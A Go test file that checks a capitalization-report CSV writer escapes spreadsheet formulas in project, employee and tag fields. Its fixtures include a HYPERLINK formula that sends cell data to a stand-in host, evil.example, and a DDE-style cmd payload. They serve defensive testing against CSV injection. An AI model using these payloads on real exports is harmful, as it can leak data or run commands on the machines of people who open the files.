package capex

import (
	"bytes"
	"testing"

	"github.com/google/uuid"

	"tracker/store/capexdb"
)

func TestSafeCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "Core": "Core", "=1+1": "'=1+1", "+1": "'+1", "-1+2": "'-1+2", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "-12.50": "-12.50", "-3": "-3", "-": "'-", "-.5": "'-.5", "-1.": "'-1.",
		"a=b": "a=b", "'=x": "'=x", "=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// Hostile names (project, employee, department, cost center, team, tags)
// reach the capitalization CSV as text, never as formulas; negative amounts
// stay numbers.
func TestWriteCSVHostileGolden(t *testing.T) {
	t.Parallel()
	p := uuid.MustParse("00000000-0000-7000-8000-000000000003")
	eve := uuid.MustParse("00000000-0000-7000-8000-0000000000e1")
	lines := []capexdb.Line{{ProjectID: p, ProjectKey: "EVIL", ProjectName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		CostCenterID: ptr("+41 cost"), TeamName: ptr("@team"), DevelopmentPhase: ptr("ApplicationDevelopment"),
		UserID: eve, DisplayName: "-2+3+cmd|' /C calc'!A0", ActivityType: "Coding",
		Minutes: 60, AmountCents: -1250, RateMinutes: -750 * 60, Entries: 1}}
	x := CSVExtras{
		ProjectTags: map[uuid.UUID][]capexdb.EntityTag{p: {{EntityID: p, Key: "=k", Value: "v"}}},
		Departments: map[uuid.UUID]string{eve: "\t=1+1"},
	}
	got, err := WriteCSV(Period{Year: 2026, Month: 4}, lines, x)
	if err != nil {
		t.Fatal(err)
	}
	recs := goldenCSV(t, "capitalization_hostile.golden.csv", got)
	for i, cell := range recs[1] {
		if cell != "" && bytes.ContainsRune([]byte("=+@\t\r"), rune(cell[0])) || cell != "" && cell[0] == '-' && !isPlainNumber(cell) {
			t.Errorf("column %s starts a formula: %q", recs[0][i], cell)
		}
	}
	if recs[1][11] != "-12.50" {
		t.Errorf("amount %q", recs[1][11])
	}
}
